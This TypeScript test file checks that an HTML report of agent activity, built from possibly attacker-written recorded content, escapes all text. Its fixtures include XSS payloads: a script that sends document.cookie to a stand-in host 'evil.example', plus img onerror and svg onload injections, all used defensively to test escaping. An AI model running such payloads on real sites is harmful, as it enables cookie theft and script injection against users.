// report.html is made from recorded content, which an attacker may have written: every text is
// escaped (nothing becomes markup or script), and a selection without untrusted content says so.
import type { SliceActivity, SliceArtifact, SliceResponse } from '@causeway/schemas';
import { describe, expect, it } from 'vitest';
import { reportHtml } from './report.ts';

const act = (id: string, tool: string): SliceActivity =>
  ({ id, type: 'activity', traceId: 'a'.repeat(32), spanId: id.slice(-16), parentSpanId: '', kind: 'tool', name: `execute_tool ${tool}`, operation: 'execute_tool', convention: 'genai', agent: 'mailer', toolName: tool, callId: 'c1', service: 's', start: '1', end: '2', status: 1, depth: 0, tainted: true }) as SliceActivity;
const doc = (id: string, preview: string): SliceArtifact =>
  ({ id, type: 'artifact', artifactId: id.slice(4), kind: 'document', trust: 'untrusted', trustWhy: '', trustRule: 'builtin:outsider-producer', preview, contentLength: preview.length, toolName: '', documentId: '', source: '', traces: [], depth: 1, tainted: true }) as SliceArtifact;

describe('the bundle report', () => {
  const hostile = '</li></ol><script>fetch("https://evil.example/?"+document.cookie)</script><img src=x onerror=alert(1)>';
  const send = act(`act:${'a'.repeat(32)}/${'1'.repeat(16)}`, 'send_email');
  const mail = doc(`art:${'b'.repeat(32)}`, hostile);
  const g: SliceResponse = {
    seed: send.id,
    direction: 'backward',
    depth: 12,
    nodes: [send, mail],
    edges: [{ from: mail.id, to: send.id, relation: 'derived_from', how: 'content', score: 0.4, shared: 7 }],
    taintPaths: [{ source: mail.id, nodes: [mail.id, send.id] }],
    truncated: false,
  };

  it('escapes recorded text: no element, attribute or script comes from it', () => {
    const html = reportHtml(g, 'a slice <b>from</b> here', { id: 'f'.repeat(16), title: '<script>x</script>', status: 'open', seeds: [send.id], traceIds: [], notes: [{ at: 't', actor: '<i>ana</i>', text: '"><svg onload=alert(1)>' }], createdAt: 't', createdBy: 'ana', updatedAt: 't', events: [] });
    expect(html).not.toMatch(/<script|<img|<svg onload|<i>|<b>from/);
    expect(html.match(/<svg /g)).toHaveLength(1); // the drawing only
    expect(html).toContain('&#60;script&#62;fetch(');
    expect(html).toContain('copied text, score 0.40, 7 shared fingerprints');
    expect(html).toContain('content="default-src \'none\'; style-src \'unsafe-inline\'"');
  });

  it('says when no untrusted content reached anything, and draws nothing', () => {
    const html = reportHtml({ ...g, taintPaths: [] }, '1 whole trace(s)');
    expect(html).toContain('id="no-chain"');
    expect(html).not.toContain('<svg ');
  });
});
